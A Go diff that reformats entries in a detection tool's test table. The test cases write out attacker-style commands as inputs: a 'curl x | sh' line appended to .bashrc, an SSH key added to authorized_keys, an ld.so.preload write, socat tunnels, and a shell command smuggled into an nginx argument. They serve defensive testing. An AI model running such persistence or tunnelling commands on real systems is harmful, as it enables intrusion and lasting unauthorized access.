@@ -136,7 +136,9 @@ var detectCases = []detectCase{
 		func(e *detectEnv) *exec.Cmd { return sh("echo 'curl x | sh' >> " + e.home + "/.bashrc") },
 		func(e *detectEnv) *exec.Cmd { return sh(". " + e.home + "/.bashrc") }},
 	{"detect-authorized-keys-write",
-		func(e *detectEnv) *exec.Cmd { return sh("cat " + e.home + "/.ssh/id_rsa.pub >> " + e.home + "/.ssh/authorized_keys") },
+		func(e *detectEnv) *exec.Cmd {
+			return sh("cat " + e.home + "/.ssh/id_rsa.pub >> " + e.home + "/.ssh/authorized_keys")
+		},
 		func(e *detectEnv) *exec.Cmd { return exec.Command("cat", e.home+"/.ssh/authorized_keys") }},
 	{"detect-ld-preload-write",
 		func(e *detectEnv) *exec.Cmd { return sh(": >> /etc/ld.so.preload") },
@@ -179,7 +181,9 @@ var detectCases = []detectCase{
 		},
 		func(e *detectEnv) *exec.Cmd { return exec.Command(e.bin+"/socat", "-", "TCP:127.0.0.1:80") }},
 	{"detect-tunnel-tool",
-		func(e *detectEnv) *exec.Cmd { return exec.Command(e.bin+"/socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.1:80") },
+		func(e *detectEnv) *exec.Cmd {
+			return exec.Command(e.bin+"/socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.1:80")
+		},
 		func(e *detectEnv) *exec.Cmd { return sh("echo socat >/dev/null") }},
 	{"detect-shell-from-service",
 		func(e *detectEnv) *exec.Cmd { return exec.Command(e.bin+"/nginx", "-c", "sh -c true; true") },
